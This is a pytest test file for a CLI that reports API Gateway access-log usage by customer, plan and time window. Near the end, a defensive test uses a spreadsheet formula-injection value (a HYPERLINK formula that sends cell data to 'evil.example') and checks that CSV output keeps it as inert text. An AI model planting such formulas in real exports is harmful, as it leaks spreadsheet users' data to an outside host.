"""`apigw-logs report`: the project's SQL over a local copy of the bucket, checked against counts made here."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from collections import Counter
from datetime import timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner

from apigw_enrichment import handler as app
from apigw_enrichment.fields import log_columns
from apigw_logs import queries, report
from apigw_logs.main import cli
from tests.support.bucket_copy import (
    Request,
    at,
    errors_folder,
    expected_customers,
    expected_totals,
    in_window,
    latencies_by_customer,
    logs_folder,
    plausible_quantile,
    processing_failure,
    write_object,
    write_requests,
)
from tests.support.events import firehose_event, ok_objects

ACME = ("cust-acme-001", "Acme Corp")
GLOBEX = ("cust-globex-002", "Globex Inc")
GOLD = ("pl0gold001", "Gold")
FREE = ("pl0free002", "Free")
NEAR_MIDNIGHT = at("2025-11-21T23:59:58")

REQUESTS = [
    # Acme on Gold: a busy hour with every kind of answer and a spread of latencies.
    *(
        Request(at("2025-11-21T09:00:00") + timedelta(seconds=7 * i), status=status, latency_ms=10 + 9 * i)
        for i, status in enumerate([200] * 14 + [404, 404, 429, 500, 503, 200])
    ),
    Request(at("2025-11-21T10:15:00"), method="POST", resource_path="/orders/{id}", latency_ms=80),
    # Stored in the next day's partition (Firehose's arrival hour), counted on the day it was made.
    Request(NEAR_MIDNIGHT, latency_ms=30),
    Request(at("2025-11-22T08:30:00"), status=502, latency_ms=900),
    # Acme through a key on the Free plan: a row of its own.
    *(Request(at("2025-11-22T08:00:00") + timedelta(minutes=i), plan=FREE, key_id="k2d8s4a6m1") for i in range(3)),
    # Globex on Free.
    *(
        Request(
            at("2025-11-21T11:00:00") + timedelta(minutes=i),
            customer=GLOBEX,
            plan=FREE,
            key_id="k3n8v5b2z6",
            status=400 if i % 3 == 0 else 200,
            latency_ms=50 + i,
        )
        for i in range(9)
    ),
    # Not attributed to anyone.
    *(
        Request(
            at("2025-11-21T12:00:00") + timedelta(seconds=i),
            customer=None,
            plan=None,
            enrichment_status="unknown_api_key",
            key_id="kUNKNOWN01",
        )
        for i in range(4)
    ),
    Request(
        at("2025-11-22T01:00:00"), customer=ACME, plan=None, enrichment_status="unknown_api_key", key_id="k7x2m9p4q1"
    ),
    *(
        Request(at("2025-11-21T13:00:00"), customer=None, plan=None, enrichment_status="no_api_key", key_id="-")
        for _ in range(2)
    ),
    Request(at("2025-11-21T14:00:00"), customer=None, plan=None, enrichment_status="lookup_unavailable"),
    Request(at("2025-11-21T15:00:00"), customer=None, plan=None, enrichment_status="conflicting_identity"),
]
NEAR_MIDNIGHT_REQUEST = next(r for r in REQUESTS if r.at == NEAR_MIDNIGHT)
FAILURES = [at("2025-11-21T10:00:05"), at("2025-11-22T03:00:00")]


@pytest.fixture
def bucket(tmp_path):
    """A copy of the bucket: logs by arrival hour, two processing failures, and error output of another kind."""
    root = tmp_path / "bucket"
    write_requests(root, [r for r in REQUESTS if r.at != NEAR_MIDNIGHT])
    write_requests(root, [NEAR_MIDNIGHT_REQUEST], partition="2025-11-22-00")
    write_object(
        errors_folder(root, "processing-failed", "2025-11-21-10"), "f1.json.gz", [processing_failure(FAILURES[0])]
    )
    # No dt= folder: the partition comes from the arrival time.
    write_object(root / "errors" / "processing-failed", "f2.json.gz", [processing_failure(FAILURES[1])])
    write_object(errors_folder(root, "format-conversion-failed", "2025-11-21-10"), "x.json.gz", [{"not": "ours"}])
    return root


def run(*args: str | Path) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, ["report", *map(str, args)], prog_name="apigw-logs")
    if result.exception and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result.exit_code, result.stdout, result.stderr


def report_json(*args: str | Path) -> dict:
    code, out, err = run(*args, "--format", "json")
    assert (code, err) == (0, ""), err
    return json.loads(out)


def without_latency(rows):
    return [{k: v for k, v in row.items() if not k.startswith("latency_")} for row in rows]


def test_totals_and_customers_match_the_records_counted_here(bucket):
    # WHEN the whole copy is reported on
    data = report_json(bucket)
    # THEN every count is the one made from the records themselves
    assert data["window"] == {"since": None, "until": None}
    assert data["totals"] == expected_totals(REQUESTS, failures=len(FAILURES))
    assert without_latency(data["customers"]) == expected_customers(REQUESTS)
    assert [list(row) for row in data["customers"]] == [list(report.CUSTOMER_COLUMNS)] * len(data["customers"])
    latencies = latencies_by_customer(REQUESTS)
    for row in data["customers"]:
        values = latencies[row["customer_id"], row["usage_plan_id"]]
        assert plausible_quantile(values, 0.5, row["latency_p50_ms"]), (row, sorted(values))
        assert plausible_quantile(values, 0.95, row["latency_p95_ms"]), (row, sorted(values))
    assert data["objects"] == {"read": len(list(bucket.rglob("*.json.gz"))) - 1, "skipped": []}


def test_the_other_sections_match_the_records_counted_here(bucket):
    data = report_json(bucket)
    enriched = [r for r in REQUESTS if r.enrichment_status == "enriched"]

    plans = Counter(r.plan for r in enriched)
    assert {(row["usage_plan_id"], row["usage_plan_name"]): row["requests"] for row in data["plans"]} == plans
    gold = next(row for row in data["plans"] if row["usage_plan_id"] == GOLD[0])
    gold_requests = [r for r in enriched if r.plan == GOLD]
    assert gold["client_errors"] == sum(400 <= r.status < 500 for r in gold_requests)
    assert gold["server_error_rate"] == round(sum(r.status >= 500 for r in gold_requests) / len(gold_requests), 4)

    days = Counter((r.at.strftime("%Y-%m-%dT00:00:00Z"), r.customer, r.plan) for r in enriched)
    assert {
        (row["day"], (row["customer_id"], row["customer_name"]), (row["usage_plan_id"], row["usage_plan_name"])): row[
            "requests"
        ]
        for row in data["daily"]
    } == days
    # The request made at 23:59:58 is counted on the 21st, though stored in the 22nd's first hour.
    assert next(row for row in data["hourly"] if row["hour"] == "2025-11-21T23:00:00Z")["requests"] == 1

    hours = Counter((r.at.strftime("%Y-%m-%dT%H:00:00Z"), r.customer) for r in enriched)
    assert {
        (row["hour"], (row["customer_id"], row["customer_name"])): row["requests"] for row in data["hourly"]
    } == hours

    resources = Counter((r.customer, r.method, r.resource_path) for r in enriched)
    assert {
        ((row["customer_id"], row["customer_name"]), row["method"], row["resource_path"]): row["requests"]
        for row in data["resources"]
    } == resources

    unknown = [r for r in REQUESTS if r.enrichment_status == "unknown_api_key"]
    assert [
        (row["key_id"], row["customer_id"], row["requests"], row["first_seen"], row["last_seen"])
        for row in data["unknown_keys"]
    ] == [
        ("kUNKNOWN01", None, 4, "2025-11-21T12:00:00Z", "2025-11-21T12:00:03Z"),
        ("k7x2m9p4q1", ACME[0], 1, "2025-11-22T01:00:00Z", "2025-11-22T01:00:00Z"),
    ]
    assert sum(row["requests"] for row in data["unknown_keys"]) == len(unknown)

    outcomes = {row["outcome"]: row["records"] for row in data["data_quality"]}
    assert outcomes == {**Counter(r.enrichment_status for r in REQUESTS), "processing_failed": len(FAILURES)}


@pytest.mark.parametrize(
    ("since", "until"),
    [
        ("2025-11-21", "2025-11-22"),  # the day the request near midnight was made
        ("2025-11-22T00:00:00Z", None),  # the next day: it is not counted there
        (None, "2025-11-21T09:01:00"),  # part of the busy hour
        ("2025-11-21T10:00:00+01:00", "2025-11-21T11:00:00+01:00"),  # an offset: 09:00 to 10:00 UTC
        ("2025-11-21T09:00:07Z", "2025-11-21T09:00:14Z"),  # since is inclusive, until exclusive
    ],
)
def test_a_window_counts_requests_by_request_time_not_by_partition(bucket, since, until):
    args = [*(["--since", since] if since else []), *(["--until", until] if until else [])]
    start = report.parse_time(since, "--since")
    end = report.parse_time(until, "--until")
    counted = [r for r in REQUESTS if in_window(r, start, end)]
    failures = sum((start is None or moment >= start) and (end is None or moment < end) for moment in FAILURES)

    data = report_json(bucket, *args)

    assert data["window"] == report.Window(start, end).as_json()
    assert data["totals"] == expected_totals(counted, failures=failures)
    assert without_latency(data["customers"]) == expected_customers(counted)


def test_the_window_given_with_an_offset_is_reported_in_utc(bucket):
    data = report_json(bucket, "--since", "2025-11-21T10:00:00+01:00", "--until", "2025-11-21T11:30")
    assert data["window"] == {"since": "2025-11-21T09:00:00Z", "until": "2025-11-21T11:30:00Z"}


def test_csv_is_the_customers_rows_for_a_spreadsheet(bucket):
    code, out, err = run(bucket, "--format", "csv")
    assert (code, err) == (0, "")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert out.splitlines()[0] == ",".join(report.CUSTOMER_COLUMNS)
    assert without_latency(rows) == [{k: str(v) for k, v in row.items()} for row in expected_customers(REQUESTS)]


def test_the_table_shows_totals_customers_plans_and_unknown_keys(bucket):
    code, out, err = run(bucket)
    assert (code, err) == (0, "")
    for title in ("Totals", "Customers", "Plans", "Unknown API keys"):
        assert title in out
    for text in ("Acme Corp", "Globex Inc", "Gold", "Free", "kUNKNOWN01", "processing_failed"):
        assert text in out
    assert all(line == line.rstrip() for line in out.splitlines()), "no trailing padding when piped"


def test_a_folder_below_the_copy_is_a_copy_too(bucket):
    data = report_json(logs_folder(bucket, "2025-11-22-00"))
    assert data["totals"] == expected_totals([NEAR_MIDNIGHT_REQUEST])


def test_objects_without_a_partition_folder_are_windowed_by_their_request_time(tmp_path):
    # GIVEN objects straight in a folder (no dt=), requests across two days
    requests = [
        Request(at("2025-11-20T23:30:00")),
        Request(at("2025-11-21T00:30:00")),
        Request(at("2025-11-22T05:00:00")),
    ]
    write_object(tmp_path, "a.json.gz", [r.record() for r in requests[:2]])
    write_object(tmp_path, "b.json", [requests[2].record()], gzipped=False)
    # WHEN a window covers one of them
    data = report_json(tmp_path, "--since", "2025-11-21", "--until", "2025-11-22")
    # THEN only that one is counted
    assert data["totals"] == expected_totals(requests[1:2])


def test_a_corrupt_object_is_reported_and_skipped_and_the_rest_counted(bucket):
    # GIVEN a truncated gzip object and one holding text that is not JSON
    good = (bucket / "logs").rglob("*.json.gz")
    truncated = next(good).with_name("truncated.json.gz")
    truncated.write_bytes(next(good).read_bytes()[:40])
    garbage = bucket / "logs" / "dt=2025-11-21-12" / "garbage.json.gz"
    garbage.parent.mkdir(exist_ok=True)
    garbage.write_bytes(b"\x1f\x8b this is not gzip at all")
    # WHEN the report is made
    code, out, err = run(bucket, "--format", "json")
    # THEN each is named in one line on stderr, and the rest is counted
    assert code == 0
    lines = err.splitlines()
    assert len(lines) == 2
    first, second = sorted(lines)
    assert first.startswith(f"Warning: skipped {garbage}: "), lines
    assert second.startswith(f"Warning: skipped {truncated}: "), lines
    data = json.loads(out)
    assert data["totals"] == expected_totals(REQUESTS, failures=len(FAILURES))
    assert sorted(item["path"] for item in data["objects"]["skipped"]) == sorted([str(garbage), str(truncated)])


def test_a_json_object_with_a_dash_in_every_value_is_read_and_counted_as_no_one(bucket):
    write_object(
        bucket / "logs" / "dt=2025-11-21-09", "dashes.json", [dict.fromkeys(log_columns(), "-")], gzipped=False
    )
    data = report_json(bucket)
    assert data["totals"] == {
        **expected_totals(REQUESTS, failures=len(FAILURES)),
        "requests": len(REQUESTS) + 1,
        "other": 1,
    }
    assert without_latency(data["customers"]) == expected_customers(REQUESTS)
    # With a window it has no request time to be counted by.
    windowed = report_json(bucket, "--since", "2025-11-01")
    assert windowed["totals"]["other"] == 0


def test_missing_fields_numbers_and_bad_epochs_do_not_stop_the_report(tmp_path):
    records = [
        {"enrichment_status": "no_api_key"},  # every other column NULL
        {**Request(at("2025-11-21T09:00:00")).record(), "status": 200, "response_latency": 7},  # numbers, not text
        {**Request(at("2025-11-21T09:00:00")).record(), "request_time_epoch": "9223372036854775807"},
        {**Request(at("2025-11-21T09:00:00")).record(), "request_time_epoch": "-99999999999999999"},
    ]
    write_object(logs_folder(tmp_path, "2025-11-21-09"), "odd.json.gz", records)
    data = report_json(tmp_path)
    assert data["totals"]["requests"] == 4
    assert data["customers"][0]["requests"] == 3
    assert data["customers"][0]["latency_p50_ms"] == 20 or data["customers"][0]["latency_p50_ms"] == 7
    assert report_json(tmp_path, "--since", "2025-11-21")["totals"]["enriched"] == 1


def test_records_made_by_the_real_handler_are_counted_as_it_answered(tmp_path, demo_account, lambda_context):
    # GIVEN raw access-log lines enriched by the handler against the demo account
    keys = ["k7x2m9p4q1", "k3n8v5b2z6", "k5j6h2g8f4", "kNOSUCHKEY", "-", "k9r4t1w7y3"]
    lines = [
        {
            **Request(
                at("2025-11-21T09:00:00") + timedelta(seconds=i),
                key_id=keys[i % len(keys)],
                status=(200, 404, 500)[i % 3],
            ).record()
        }
        for i in range(60)
    ]
    for line in lines:
        for name in ("usage_plan_id", "usage_plan_name", "customer_id", "customer_name", "enrichment_status"):
            del line[name]
    enriched = ok_objects(
        app.lambda_handler(firehose_event([json.dumps(line).encode() for line in lines]), lambda_context)
    )
    write_object(logs_folder(tmp_path, "2025-11-21-09"), "handler.json.gz", enriched)
    # WHEN reported on
    data = report_json(tmp_path)
    # THEN the statuses and customers are the handler's
    statuses = Counter(obj["enrichment_status"] for obj in enriched)
    assert {k: v for k, v in data["totals"].items() if v and k != "requests"} == statuses
    customers = Counter(
        (obj["customer_id"], obj["customer_name"], obj["usage_plan_id"], obj["usage_plan_name"])
        for obj in enriched
        if obj["enrichment_status"] == "enriched"
    )
    assert {
        (row["customer_id"], row["customer_name"], row["usage_plan_id"], row["usage_plan_name"]): row["requests"]
        for row in data["customers"]
    } == customers


# -- Bad input: one line on stderr, exit status 2 ----------------------------------------------


def assert_bad_input(args, message):
    code, out, err = run(*args)
    assert (code, out) == (2, "")
    assert len(err.splitlines()) == 1, err
    assert message in err, err


def test_a_missing_path_is_bad_input(tmp_path):
    assert_bad_input([tmp_path / "nowhere"], "nowhere: no such file or folder")


def test_an_empty_folder_is_bad_input(tmp_path):
    (tmp_path / "logs" / "dt=2025-11-21-09").mkdir(parents=True)
    (tmp_path / "logs" / "notes.txt").write_text("not an object")
    assert_bad_input([tmp_path], "no access logs here")


def test_a_folder_with_only_errors_is_bad_input(tmp_path):
    write_object(
        errors_folder(tmp_path, "processing-failed", "2025-11-21-10"), "f.json.gz", [processing_failure(FAILURES[0])]
    )
    assert_bad_input([tmp_path], "no access logs here")
    assert_bad_input([tmp_path / "errors"], "no access logs here")


def test_a_copy_where_no_object_can_be_read_is_bad_input(tmp_path):
    (tmp_path / "bad.json.gz").write_bytes(b"not gzip")
    code, _, err = run(tmp_path)
    assert code == 2
    assert err.splitlines()[-1] == f"Error: {tmp_path}: none of the 1 access-log objects could be read"


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads any file, so no object is unreadable")
def test_an_unreadable_object_is_bad_input(bucket):
    path = next((bucket / "logs").rglob("*.json.gz"))
    path.chmod(0)
    try:
        assert_bad_input([bucket], f"{path}: cannot be read (Permission denied)")
    finally:
        path.chmod(0o644)


def test_an_object_that_cannot_be_opened_is_bad_input_even_for_root(bucket, monkeypatch):
    path = next((bucket / "logs").rglob("*.json.gz"))
    opened = Path.open

    def refuse(self, *args, **kwargs):
        if self == path:
            raise PermissionError(13, "Permission denied", str(self))
        return opened(self, *args, **kwargs)

    monkeypatch.setattr(Path, "open", refuse)
    assert_bad_input([bucket], f"Error: {path}: cannot be read (Permission denied)")


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--since", "yesterday"], "--since 'yesterday': not an ISO 8601 date or time"),
        (["--until", "2025-13-01"], "--until '2025-13-01': not an ISO 8601 date or time"),
        (["--since", "2025-11-22", "--until", "2025-11-21"], "is not before --until"),
    ],
)
def test_bad_times_are_bad_input(bucket, args, message):
    assert_bad_input([bucket, *args], message)


def test_an_unknown_format_is_a_usage_error(bucket):
    code, out, err = run(bucket, "--format", "xml")
    assert (code, out) == (2, "")
    assert err.splitlines()[-1] == "Error: Invalid value for '--format': 'xml' is not one of 'table', 'json', 'csv'."


def test_the_installed_command_reports_bad_input_without_a_traceback(tmp_path):
    command = Path(sys.executable).with_name("apigw-logs")
    result = subprocess.run([command, "report", tmp_path / "nowhere"], capture_output=True, text=True, check=False)
    assert (result.returncode, result.stdout) == (2, "")
    assert result.stderr == f"Error: {tmp_path / 'nowhere'}: no such file or folder\n"


def test_the_installed_command_prints_json_and_no_progress_when_not_a_terminal(bucket):
    command = Path(sys.executable).with_name("apigw-logs")
    result = subprocess.run(
        [command, "report", bucket, "--format", "json"], capture_output=True, text=True, check=False
    )
    assert (result.returncode, result.stderr) == (0, "")
    assert json.loads(result.stdout)["totals"] == expected_totals(REQUESTS, failures=len(FAILURES))


# -- The SQL on DuckDB ------------------------------------------------------------------------


def test_every_sql_file_is_a_section_of_the_report():
    assert set(report.SECTIONS.values()) == set(queries.names())


@pytest.mark.parametrize("name", queries.names())
@pytest.mark.parametrize(
    "window",
    [
        report.Window(),
        report.Window(at("2025-11-21T09:00:00"), at("2025-11-22T00:00:00")),
        report.Window(at("2030-01-01")),
    ],
    ids=["no window", "a day", "no requests"],
)
def test_every_sql_file_runs_on_duckdb(bucket, tmp_path, name, window):
    objects = report.find_objects(bucket)
    (tmp_path / "db").mkdir()
    store = report.Store(tmp_path / "db")
    try:
        for obj in objects:
            store.ingest(obj)
        rows = report.run_query(store, name, window)
    finally:
        store.close()
    if window.since and window.since.year == 2030:
        assert all(row.get("records", 0) == 0 for row in rows)
    else:
        assert rows
    assert json.loads(json.dumps(rows)) == rows, "plain JSON values, timestamps as text"


def test_the_window_replaces_the_bounds_and_nothing_else():
    tree = report.localize(queries.source("customer_report"), report.Window(at("2025-11-21T09:00:00"), None))
    sql = tree.sql(dialect="duckdb")
    assert "CAST('2025-11-21 09:00:00+00:00' AS TIMESTAMPTZ) AS since" in sql
    assert "CAST(NULL AS TIMESTAMPTZ) AS until" in sql
    assert "CURRENT_TIMESTAMP" not in sql


def test_a_customer_with_two_keys_is_one_row_and_a_key_without_a_customer_id_is_its_own(tmp_path):
    # GIVEN one customer calling with two keys (two key names, one customerId), and two keys
    # without a customerId, each its own customer by name
    requests = [
        *[Request(at("2025-11-21T09:00:00"), customer=("cust-acme-001", "Acme Corp"))] * 3,
        *[Request(at("2025-11-21T09:05:00"), customer=("cust-acme-001", "Acme Corp (mobile app)"))] * 2,
        *[Request(at("2025-11-21T09:10:00"), customer=(None, "Initech"))] * 4,
        Request(at("2025-11-21T09:20:00"), customer=(None, "Hooli")),
    ]
    write_requests(tmp_path, requests)
    # WHEN reported
    customers = without_latency(report_json(tmp_path)["customers"])
    # THEN Acme is one row of 5 requests under its first key name; Initech and Hooli are two rows
    assert customers == expected_customers(requests)
    assert [(row["customer_id"], row["customer_name"], row["requests"]) for row in customers] == [
        ("cust-acme-001", "Acme Corp", 5),
        (None, "Initech", 4),
        (None, "Hooli", 1),
    ]


# --- hostile copies: what a reviewer found, each read as it should be ---


def test_an_object_whose_name_reads_as_a_glob_is_read_once_and_alone(tmp_path):
    # GIVEN objects named like glob patterns beside a plain one, each holding one request
    folder = logs_folder(tmp_path, "2025-11-21-09")
    for name in ("a.json.gz", "*.json.gz", "[ab].json.gz", "a?.json.gz"):
        write_object(folder, name, [Request(at("2025-11-21T09:00:00")).record()])
    # THEN each is counted once: four requests, not every object a pattern matches
    data = report_json(tmp_path)
    assert data["totals"]["requests"] == 4
    assert data["objects"] == {"read": 4, "skipped": []}


def test_something_that_is_not_a_regular_file_is_skipped_with_a_warning_not_waited_on(tmp_path):
    write_requests(tmp_path, [Request(at("2025-11-21T09:00:00"))])
    fifo = logs_folder(tmp_path, "2025-11-21-09") / "x.json"
    os.mkfifo(fifo)
    code, out, err = run(tmp_path, "--format", "json")
    assert code == 0
    assert json.loads(out)["totals"]["requests"] == 1
    assert err.strip() == f"Warning: skipped {fifo}: not a regular file"


def test_a_name_a_spreadsheet_would_run_as_a_formula_stays_text_in_the_csv(tmp_path):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    write_requests(tmp_path, [Request(at("2025-11-21T09:00:00"), customer=("cust-1", evil))])
    code, out, _ = run(tmp_path, "--format", "csv")
    assert code == 0
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert row["customer_name"] == "'" + evil


def test_a_status_that_is_no_number_counts_as_no_error_not_as_unknown(tmp_path):
    # Trino's count_if gives 0 where no condition holds; DuckDB's gave NULL when all were NULL.
    record = {**Request(at("2025-11-21T09:00:00")).record(), "status": "-"}
    write_object(logs_folder(tmp_path, "2025-11-21-09"), "a.json.gz", [record])
    (customer,) = report_json(tmp_path)["customers"]
    assert (customer["client_errors"], customer["server_errors"]) == (0, 0)


def test_a_page_for_records_without_a_request_time_is_still_written(tmp_path):
    record = {**Request(at("2025-11-21T09:00:00")).record(), "request_time_epoch": "-"}
    write_object(logs_folder(tmp_path, "2025-11-21-09"), "a.json.gz", [record])
    code, _, err = run(tmp_path, "--html", tmp_path / "page.html")
    assert (code, err) == (0, "")
    assert "<svg" in (tmp_path / "page.html").read_text(encoding="utf-8")


@pytest.mark.parametrize("since", ["9999-12-31T23:59:59-05:00", "0001-01-01T00:00:00+05:00"])
def test_a_time_that_leaves_the_calendar_once_in_utc_is_bad_input(bucket, since):
    code, _, err = run(bucket, "--since", since)
    assert code == 2
    assert err.strip() == f"Error: --since {since!r}: out of range once in UTC"


def test_a_report_that_cannot_be_written_is_one_line(bucket):
    with Path("/dev/full").open("w") as full:
        ran = subprocess.run(
            [str(Path(sys.executable).parent / "apigw-logs"), "report", str(bucket), "--format", "csv"],
            stdout=full, stderr=subprocess.PIPE, text=True, check=False,
        )  # fmt: skip
    assert ran.returncode == 2
    assert ran.stderr.strip() == "Error: cannot write the report: No space left on device"
